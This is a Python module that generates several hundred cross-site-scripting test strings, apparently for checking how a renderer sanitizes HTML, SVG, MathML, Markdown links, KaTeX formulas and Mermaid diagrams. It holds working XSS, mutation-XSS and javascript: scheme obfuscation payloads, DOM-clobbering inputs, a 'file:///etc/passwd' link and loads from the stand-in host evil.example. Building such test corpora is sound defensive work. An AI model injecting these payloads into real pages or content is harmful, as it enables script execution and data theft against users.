"""Attempts to run something or to reach out, put together class by class: over five hundred.

Whatever runs calls `alert`; whatever is loaded comes from `evil.example`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

RUN: Final = "alert(1)"
AWAY: Final = "https://evil.example/x"

ELEMENTS: Final = (
    "<img src=x {}>",
    "<img src={away} {}>",
    "<svg {}>",
    "<svg><animate attributeName=x dur=1s {}>",
    "<svg><image href=x {}>",
    "<math {}><mi>x</mi></math>",
    "<math><maction actiontype=toggle {}>x</maction></math>",
    "<video src=x {}></video>",
    "<audio src=x autoplay {}>",
    "<input autofocus {}>",
    "<textarea autofocus {}></textarea>",
    "<select autofocus {}></select>",
    "<details open {}>x</details>",
    "<body {}>",
    "<iframe src=x {}></iframe>",
    "<object data=x {}></object>",
    "<embed src=x {}>",
    "<a tabindex=1 {}>x</a>",
    "<div contenteditable {}>x</div>",
    "<marquee {}>x</marquee>",
    "<button popovertarget=message {}>x</button>",
    "<dialog open {}>x</dialog>",
    "<style {}>x{{}}</style>",
    "<link rel=stylesheet href={away} {}>",
    "<x-y {} id=x style=animation:x>",
)
HANDLERS: Final = (
    "onerror={run}",
    "onload='{run}'",
    'onfocus="{run}"',
    "onmouseover={run}",
    "ontoggle={run}",
    "onbegin={run}",
    "ONPOINTERENTER={run}",
    "onbeforetoggle&#61;{run}",
)
SCRIPTS: Final = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script src={away}></script>",
    "<script type=module>import '{away}'</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={away} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<svg><a href=javascript:{run}><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>",
    "<math href=javascript:{run}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<base href={away}>",
    "<style>@import '{away}'</style>",
    "<style>*{{background:url({away})}}</style>",
    "<p style='background:url({away})'>x</p>",
    "<link rel=prefetch href={away}>",
    "<table background={away}><tr><td>x</td></tr></table>",
    "<img srcset='{away} 2x'>",
    "<picture><source srcset={away}><img></picture>",
    "<video poster={away}></video>",
    "<input type=image src={away}>",
    "<body background={away}>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={run}>'>]>&y;",
)
MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><img src onerror={run}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><svg/onload={run}>'>",
    "<listing>&lt;img onerror={run} src&gt;</listing>",
    "<!--><img src=x onerror={run}>-->",
    "<!--!> <img src=x onerror={run}> -->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    "<textarea><img title='</textarea><img src onerror={run}>'>",
    "<title><img title='</title><img src onerror={run}>'>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<svg><title><![CDATA[</title><script>{run}</script>]]></svg>",
    "<a title='`<img src=x onerror={run}>`'>x</a>",
    "<b title='[x](javascript:{run})'>",
    "`<img src=x onerror={run}>",
    '```"><img src=x onerror={run}>\ncode\n```',
    "```html onmouseover={run}\n<img src=x onerror={run}>\n```",
    "~~~<svg/onload={run}>\n</code></pre><svg/onload={run}>\n~~~",
    "    </code></pre><img src=x onerror={run}>",
    "| <img src=x onerror={run}> | b |\n|---|---|\n| <svg onload={run}> | `|<b>` |",
    "# <img src=x onerror={run}>",
    "> <iframe src=javascript:{run}>",
    "1. <input autofocus onfocus={run}>\n   - <svg/onload={run}>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\<img src=x onerror={run}\\>",
    "<img/src=x/onerror={run}>",
    "<img src=x\u2028onerror={run}>",
    "<img src=x onerror\u3000={run}>",
    "＜img src=x onerror={run}＞",
    "<\u0000img src=x onerror={run}>",
    "**<b onmouseover={run}>強調</b>**",
)
SCHEMES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#10;script:{run}",
    "java&Tab;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "javascript%3A{run}",
    "%6Aavascript:{run}",
    "\\javascript:{run}",
    "\u0001javascript:{run}",
    "\u200bjavascript:{run}",
    "ｊａｖａｓｃｒｉｐｔ:{run}",
    "javascript://%0a{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{run}",
    "file:///etc/passwd",
    "view-source:javascript:{run}",
    "//evil.example/x",
    "/v1/models",
    "#message",
)
LINKS: Final = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x][1]\n\n[1]: {}",
    "<{}>",
    "![x]({})",
    "[![x]({})](https://a.example)",
    "<a href='{}'>x</a>",
)
BREAKOUTS: Final = (
    '[x](https://a.example "\\" onmouseover={run} x=\\"")',
    '[x](https://a.example/"onmouseover={run})',
    '<https://a.example/"><img src=x onerror={run}>',
    '![x" onerror="{run}]({away}.png)',
    "https://a.example/'onclick='{run}",
    "https://a.example/<img src=x onerror={run}>",
    "mailto:a@b.example?subject=<script>{run}</script>",
    "[x]: {away} '\"><img src=x onerror={run}>'\n\n[x]",
    "[<img src=x onerror={run}>](https://a.example)",
    "[x](https://a.example\u202e/gpj.evil)",
)
CLOBBERING: Final = tuple(
    template.format(name)
    for template, name in product(
        ("<img name={0}>", "<form id={0}><input name={0}></form>", "<a id={0} href=x>x</a>"),
        ("message", "body", "cookie", "getElementById", "documentElement", "app", "location"),
    )
)
FORMULAS: Final = (
    "\\href{{javascript:{run}}}{{x}}",
    "\\url{{javascript:{run}}}",
    "\\includegraphics{{{away}.png}}",
    "\\htmlId{{message}}{{x}}",
    "\\htmlClass{{x}}{{<img src=x onerror={run}>}}",
    "\\htmlStyle{{background:url({away})}}{{x}}",
    '\\htmlData{{x="><img src=x onerror={run}>}}{{x}}',
    "\\text{{<img src=x onerror={run}>}}",
    '\\text{{"><svg/onload={run}>}}',
    "\\textcolor{{red;background:url({away})}}{{x}}",
    '\\color{{"onmouseover="{run}}}x',
    "\\colorbox{{url({away})}}{{x}}",
    '\\fcolorbox{{red}}{{"><img src=x onerror={run}>}}{{x}}',
    "\\def\\x{{\\x\\x}}\\x",
    "\\def\\a{{<script>{run}</script>}}\\text{{\\a}}",
    "\\newcommand{{\\b}}{{\\href{{javascript:{run}}}{{x}}}}\\b",
    '\\unicode{{x}}\\char"3Cimg src=x onerror={run}\\char"3E',
    "\\rule{{100000em}}{{100000em}}",
    "\\kern{{1e9em}}x",
    "</annotation></semantics></math><img src=x onerror={run}>",
    "\\verb|<img src=x onerror={run}>|",
    "\\tag{{<img src=x onerror={run}>}}",
    "\\begin{{array}}{{c}}<script>{run}</script>\\end{{array}}",
    "\\operatorname{{<svg onload={run}>}}",
    "x^{{</math><script>{run}</script>}}",
)
DIAGRAMS: Final = (
    'flowchart TD\n A["<img src=x onerror={run}>"]',
    "flowchart TD\n A[<script>{run}</script>]",
    'flowchart TD\n A["<iframe srcdoc=x>"]',
    'flowchart TD\n A["`<b onclick={run}>x</b>`"]',
    "flowchart TD\n A --> B\n click A {run}",
    "flowchart TD\n A --> B\n click A call {run}()",
    'flowchart TD\n A --> B\n click A href "javascript:{run}"',
    'flowchart TD\n A --> B\n click A "{away}" _self',
    "flowchart TD\n A --> B\n style A fill:url({away})",
    "flowchart TD\n A --> B\n classDef x background:url({away})\n class A x",
    'flowchart TD\n A@{{ img: "{away}", label: "x" }}',
    'flowchart TD\n A@{{ icon: "x:<img src=x onerror={run}>" }}',
    '%%{{init: {{"securityLevel":"loose"}}}}%%\nflowchart TD\n A["<img src=x onerror={run}>"]',
    '%%{{init: {{"themeCSS":"@import url({away});"}}}}%%\nflowchart TD\n A --> B',
    '%%{{init: {{"fontFamily":"x}}*{{background:url({away})}}"}}}}%%\nflowchart TD\n A --> B',
    '%%{{init: {{"flowchart":{{"htmlLabels":true}}}}}}%%\nflowchart TD\n A["<svg/onload={run}>"]',
    '%%{{init: {{"__proto__":{{"x":1}}}}}}%%\nflowchart TD\n A --> B',
    "---\nconfig:\n  securityLevel: loose\n---\nflowchart TD\n A[<img src=x onerror={run}>]",
    "---\ntitle: <img src=x onerror={run}>\n---\nflowchart TD\n A --> B",
    "sequenceDiagram\n Alice->>Bob: <img src=x onerror={run}>",
    "sequenceDiagram\n participant A\n link A: x @ javascript:{run}",
    'sequenceDiagram\n participant A\n links A: {{"x": "javascript:{run}"}}',
    'sequenceDiagram\n participant A\n properties A: {{"class": "\\" onload={run}"}}',
    "classDiagram\n class A\n A : <img src=x onerror={run}>",
    'classDiagram\n class A\n click A href "javascript:{run}"',
    'classDiagram\n class A["<script>{run}</script>"]',
    'erDiagram\n A ||--o{{ B : "<img src=x onerror={run}>"',
    'gantt\n title <svg/onload={run}>\n section x\n a :a1, 1d\n click a1 href "javascript:{run}"',
    'pie title <img src=x onerror={run}>\n "<script>{run}</script>" : 1',
    "journey\n title x\n section <img src=x onerror={run}>\n a: 1: <script>{run}</script>",
    "mindmap\n root((<img src=x onerror={run}>))",
    "stateDiagram-v2\n s1: <img src=x onerror={run}>",
    'gitGraph\n commit id: "<img src=x onerror={run}>"',
    "timeline\n title <img src=x onerror={run}>\n 2026 : <script>{run}</script>",
    'flowchart TD\n A["#lt;img src=x onerror={run}#gt;"]',
    'flowchart TD\n A["&lt;img src=x onerror={run}&gt;"]',
    "classDiagram\n class A {{\n <<img onerror={run}>>\n }}",
    "flowchart TD\n A --> A1[" + "x" * 25_000 + "]",
    "flowchart TD\n" + "A-->B\n" * 400,
    "info\n</svg><script>{run}</script>",
    'block-beta\n a["<img src=x onerror={run}>"]',
)


def _filled(texts: tuple[str, ...]) -> Iterator[str]:
    for text in texts:
        yield text.format(run=RUN, away=AWAY)


def html() -> list[str]:
    """Raw HTML, SVG and MathML, links and images of Markdown, and what mixes them up."""
    found: list[str] = []
    for element, handler in product(ELEMENTS, HANDLERS):
        found.append(element.format(handler.format(run=RUN), away=AWAY))
    found += _filled(SCRIPTS + MUTATIONS + BREAKOUTS)
    for link, scheme in product(LINKS, _filled(SCHEMES)):
        found.append(link.format(scheme))
    return found + list(CLOBBERING)


def formulas() -> list[str]:
    """Each as a formula in the text and on lines of its own."""
    return [form.format(tex) for tex in _filled(FORMULAS) for form in (r"\({}\)", "$$\n{}\n$$")]


def diagrams() -> list[str]:
    return [f"```mermaid\n{source}\n```" for source in _filled(DIAGRAMS)]


def names() -> list[str]:
    """One line each, for what has a name: files, chats, templates, groups."""
    return [text.replace("\n", " ") for text in html()[::9]]


def answers() -> list[str]:
    return html() + formulas() + diagrams()
